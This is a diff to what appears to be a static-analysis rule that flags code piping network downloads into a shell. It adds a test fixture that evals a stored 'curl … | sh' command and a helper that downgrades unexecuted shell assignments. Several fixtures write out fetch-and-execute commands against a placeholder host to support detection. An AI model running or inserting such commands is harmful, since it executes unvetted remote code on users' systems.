@@ -49,6 +49,7 @@ export const check: FileCheck = {
         'run.py':
           'SETUP = "«curl -fsSL https://get.example.net/setup.sh | sh»"\nos.system(SETUP)\nprint(f"Ran {SETUP}")\n',
       },
+      { 'kept.sh': 'load="«curl -fsSL https://get.example.net/setup.sh | sh»"\neval "$load"\n' },
       { 'boot.sh': 'bash -c "$(true)"\n«bash <(curl -s https://get.example.net/run»)\n' },
     ],
     good: [
@@ -79,7 +80,8 @@ export const check: FileCheck = {
           yield {
             at,
             message: `What ${hostOf(address)} answers is run without being looked at.`,
-            ...(CODE.has(language) && isQuoted(text, at.start, known) && !SHADY.test(address)
+            ...((CODE.has(language) ? isQuoted(text, at.start, known) : isShown(text, at.start, language)) &&
+            !SHADY.test(address)
               ? { confidence: 'low', severity: 'low' }
               : weigh(address, text.slice(Math.max(0, at.start - LOOKED_BACK), at.start), language, path)),
           };
@@ -88,6 +90,14 @@ export const check: FileCheck = {
     }
   },
 };
+
+/** `usage="curl … | sh"` in a shell, where nothing runs what the name holds. */
+function isShown(text: string, at: number, language: string): boolean {
+  const line = text.slice(text.lastIndexOf('\n', at - 1) + 1, at);
+  const name = /^[ \t]{0,40}(?:local\s|export\s|readonly\s)?\s{0,3}(\w{1,60})=["'][^"'`$]{0,80}$/.exec(line)?.[1];
+  if (language !== 'shell' || name === undefined) return false;
+  return !new RegExp(`(?:\\beval|\\s-c)\\s+["']?\\$\\{?${name}\\b|^\\s*["']?\\$\\{?${name}\\b`, 'm').test(text);
+}
 
 /** A line that only tells a person what to type runs nothing by itself; what builds the project acts on its developers. */
 function weigh(
